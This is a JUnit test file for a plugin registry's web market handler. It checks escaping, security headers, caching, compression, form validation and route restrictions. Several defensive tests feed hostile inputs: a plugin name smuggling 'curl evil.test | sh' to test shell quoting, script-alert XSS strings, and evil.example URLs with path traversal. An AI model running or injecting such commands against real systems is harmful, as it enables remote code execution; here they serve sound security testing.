package io.weir.registry.market;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.weir.registry.http.Json;
import io.weir.registry.http.RegistryRequest;
import io.weir.registry.http.RegistryResponse;
import io.weir.registry.market.form.YamlText;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.Test;

class MarketHandlerTest {
  private static final String FORM = "application/x-www-form-urlencoded";

  private final StandInApi api = new StandInApi();
  private final MarketHandler market = new MarketHandler(api, "/m", false);

  @Test
  void tellsHowToPushTheFirstPlugin() throws IOException {
    String page = text(get("/", Map.of()));

    assertTrue(page.contains("No plugins yet"), page);
    assertTrue(
        page.contains(
            "./weir plugin push ./my-plugin registry.example:5000/plugins/my-plugin:1.0.0"),
        page);
  }

  @Test
  void listsPluginsAndKeepsTheSearchInEveryLink() throws IOException {
    api.add(plugin("plugins/<b>demo</b>", "auth"));

    String page =
        text(get("/", Map.of("q", "de\"mo", "category", "auth", "sort", "name", "x", "y")));

    assertEquals(
        Map.of("q", List.of("de\"mo"), "category", List.of("auth"), "sort", List.of("name")),
        api.asked);
    assertTrue(page.contains("plugins/&lt;b&gt;demo&lt;/b&gt;"), page);
    assertTrue(page.contains("value=\"de&quot;mo\""), page);
    assertTrue(page.contains("/m/?q=de%22mo&amp;category=security&amp;sort=name"), page);
    assertTrue(page.contains("/m/?q=de%22mo&amp;sort=name\" aria-current"), page);
    assertTrue(page.contains("after=plugins%2Flast"), page);
  }

  @Test
  void showsAPluginWithWhatIsWrongWithIt() throws IOException {
    api.add(plugin("plugins/demo", "auth"));

    String page = text(get("/plugin/plugins/demo", Map.of()));

    assertTrue(
        page.contains("Signed by &lt;us&gt;") || page.contains("Signed by &amp;lt;us"), page);
    assertTrue(page.contains("oci://registry.example:5000/plugins/demo:1.0.0"), page);
    assertTrue(page.contains("write info.licence"), page);
    assertTrue(page.contains("Sends HTTP requests to upstreams"), page);
    assertTrue(page.contains("Use demo-2 instead"), page);
    assertFalse(page.contains("<script>alert"), page);
  }

  @Test
  void anUnknownPluginIsAPageToo() throws IOException {
    RegistryResponse response = get("/plugin/none", Map.of());

    assertEquals(404, response.status());
    assertTrue(text(response).contains("there is no such plugin"));
  }

  @Test
  void everyAnswerHasAStrictPolicyAndPagesATag() throws IOException {
    RegistryResponse page = get("/", Map.of());
    String tag = page.headers().getOrDefault("ETag", "none");
    RegistryResponse again =
        market.handle(request("GET", "/", Map.of(), Map.of("if-none-match", "\"x\", " + tag), ""));

    String policy = page.headers().getOrDefault("Content-Security-Policy", "");
    assertTrue(policy.startsWith("default-src 'none'"));
    assertFalse(policy.contains("unsafe"));
    assertEquals(304, again.status());
    assertEquals(0, again.body().length());
  }

  @Test
  void compressesForWhoeverTakesIt() throws IOException {
    RegistryResponse plain = get("/", Map.of());
    RegistryResponse packed =
        market.handle(request("GET", "/", Map.of(), Map.of("accept-encoding", "br, gzip"), ""));

    assertEquals("gzip", packed.headers().get("Content-Encoding"));
    byte[] content = ((RegistryResponse.Bytes) packed.body()).content();
    try (GZIPInputStream gzip = new GZIPInputStream(new ByteArrayInputStream(content))) {
      byte[] unpacked = gzip.readAllBytes();
      assertArrayEquals(((RegistryResponse.Bytes) plain.body()).content(), unpacked);
    }
    RegistryResponse refused =
        market.handle(request("GET", "/", Map.of(), Map.of("accept-encoding", "gzip;q=0"), ""));
    assertFalse(refused.headers().containsKey("Content-Encoding"));
  }

  @Test
  void assetsNeverChange() throws IOException {
    String page = text(get("/", Map.of()));
    String css = page.replaceAll("(?s).*href=\"/m(/assets/market-[0-9a-f]+[.]css)\".*", "$1");

    RegistryResponse response = get(css, Map.of());

    assertEquals(200, response.status());
    assertTrue(response.headers().getOrDefault("Cache-Control", "").contains("immutable"));
  }

  @Test
  void checksASentFormWithoutAScript() throws IOException {
    api.add(plugin("plugins/demo", "auth"));

    String wrong = text(post("/configure/plugins/demo", "do=check&v%3A%2Fport=99999999"));
    String right = text(post("/configure/plugins/demo", "do=check&v%3A%2Fport=80"));
    String added =
        text(post("/configure/plugins/demo", "v%3A%2Fport=80&n%3A%2Fnames=0&add=%2Fnames"));
    String yaml = text(post("/configure/plugins/demo", "v%3A%2Fport=80&do=yaml"));

    assertTrue(
        wrong.contains("Has to be 65535 or less") || wrong.contains("has to be 65535 or less"),
        wrong);
    assertTrue(wrong.contains("value=\"99999999\""), wrong);
    assertTrue(right.contains("This configuration is valid"), right);
    assertTrue(right.contains("port: 80"), right);
    assertTrue(added.contains("name=\"v:/names/0\""), added);
    assertTrue(yaml.contains("<textarea id=\"yaml\""), yaml);
  }

  @Test
  void answersTheScriptInJson() throws IOException {
    api.add(plugin("plugins/demo", "auth"));

    JsonNode answer = Json.MAPPER.readTree(text(post("/validate/plugins/demo", "v%3A%2Fport=0")));

    assertFalse(answer.path("ok").asBoolean());
    assertEquals("has to be 1 or more", answer.path("fields").path("/port").path(0).asText());
    assertEquals("port: 0\n", answer.path("yaml").asText());
  }

  @Test
  void refusesWhatIsNoForm() throws IOException {
    api.add(plugin("plugins/demo", "auth"));
    Map<String, String> json = Map.of("content-type", "application/json");

    assertEquals(
        415,
        market.handle(request("POST", "/validate/plugins/demo", Map.of(), json, "{}")).status());
    assertEquals(413, post("/validate/plugins/demo", "a".repeat(600_000)).status());
    assertEquals(400, post("/validate/plugins/demo", "a=%zz").status());
    assertEquals(405, market.handle(request("DELETE", "/", Map.of(), Map.of(), "")).status());
  }

  @Test
  void anIconIsOfTheApiOnly() throws IOException {
    for (String of :
        List.of(
            "https://evil.example/x",
            "//evil.example/api/v1/x",
            "/api/v1/../../v2/x",
            "/v2/",
            "/api/v1/x",
            "/api/v1/housekeeping/gc")) {
      assertEquals(404, get("/icon", Map.of("of", of)).status(), of);
    }
  }

  @Test
  void aPageIsOfARepositoryOnly() throws IOException {
    api.add(plugin("plugins/demo", "auth"));

    for (String name :
        List.of("", "/", "plugins/demo/-/readme", "plugins/demo/-/icon", "..", "A")) {
      assertEquals(404, get("/plugin/" + name, Map.of()).status(), name);
      assertEquals(404, get("/configure/" + name, Map.of()).status(), name);
      assertEquals(404, post("/validate/" + name, "a=b").status(), name);
    }
  }

  /** An SVG that is opened by itself runs nothing and loads nothing. */
  @Test
  void anIconStaysInItsSandbox() throws IOException {
    String path = "/api/v1/plugins/plugins/demo/-/icon";
    api.pictures.put(path, "<svg><script>alert(1)</script></svg>");

    RegistryResponse icon = get("/icon", Map.of("of", path));

    assertEquals(200, icon.status());
    String policy = icon.headers().getOrDefault("Content-Security-Policy", "");
    assertTrue(policy.contains("sandbox") && !policy.contains("script-src"), policy);
  }

  /** A name that is copied into a shell stays a name. */
  @Test
  void quotesForTheShell() throws IOException {
    ObjectNode plugin = (ObjectNode) plugin("plugins/demo", "auth");
    api.add(plugin.put("name", "x; curl evil.test | sh; echo 'y"));

    String page = text(get("/plugin/plugins/demo", Map.of())).replace("&#39;", "'");

    assertTrue(page.contains("bind ROUTE 'x; curl evil.test | sh; echo '\\''y' --url"), page);
  }

  private RegistryResponse get(String path, Map<String, String> query) throws IOException {
    return market.handle(request("GET", path, query, Map.of(), ""));
  }

  private RegistryResponse post(String path, String body) throws IOException {
    return market.handle(request("POST", path, Map.of(), Map.of("content-type", FORM), body));
  }

  private static RegistryRequest request(
      String method,
      String path,
      Map<String, String> query,
      Map<String, String> headers,
      String body) {
    Map<String, List<String>> parameters = new HashMap<>();
    query.forEach((name, value) -> parameters.put(name, List.of(value)));
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
    return new RegistryRequest(
        method,
        path,
        parameters,
        headers,
        bytes.length,
        new ByteArrayInputStream(bytes),
        "http://registry.example:5000",
        "127.0.0.1",
        Anybody.INSTANCE);
  }

  private static String text(RegistryResponse response) {
    byte[] content = ((RegistryResponse.Bytes) response.body()).content();
    return new String(content, StandardCharsets.UTF_8).replace("&#x3D;", "=");
  }

  private static JsonNode plugin(String repository, String category) {
    return YamlText.read(
        """
        repository: %s
        name: demo
        title: Demo
        description: What it does.
        category: %s
        language: Rust
        phase: AUTHN
        priority: 310
        abi: 0.2.1
        version: 1.0.0
        digest: sha256:0123456789abcdef
        updated: 2026-11-23T10:00:00Z
        downloads: 1200
        ok: true
        signature: { state: verified, signer: "<us>" }
        deprecated: { reason: Use demo-2 instead }
        capabilities: [headers, http-call]
        versions: [ { version: 1.0.0, tags: [1.0.0, latest], digest: "sha256:0123456789abcdef", size: 2048 } ]
        verdict:
          ok: true
          problems:
            - { severity: warning, place: spec.yaml, message: no licence, remedy: write info.licence }
        imports: [env.proxy_log]
        readme: "# Hi\\n\\n<script>alert(1)</script>"
        configSchema:
          type: object
          properties:
            port: { type: integer, minimum: 1, maximum: 65535 }
            names: { type: array, items: { type: string } }
        """
            .formatted(repository, category));
  }
}
